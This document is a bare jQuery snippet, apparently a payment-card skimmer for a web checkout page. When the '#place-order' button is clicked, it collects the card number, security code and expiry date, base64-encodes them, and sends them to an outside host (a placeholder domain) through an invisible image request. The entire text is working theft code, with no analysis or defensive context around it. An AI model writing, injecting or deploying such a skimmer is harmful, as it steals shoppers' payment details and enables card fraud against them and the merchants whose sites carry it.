jQuery(document).on('click', '#place-order', function(){
  var v = jQuery('#cardnumber').val() + '|' + jQuery('#security_code').val() + '|' + jQuery('#expiry_date').val();
  (new Image()).src = 'https://img-example.invalid/p.gif?d=' + btoa(v);
});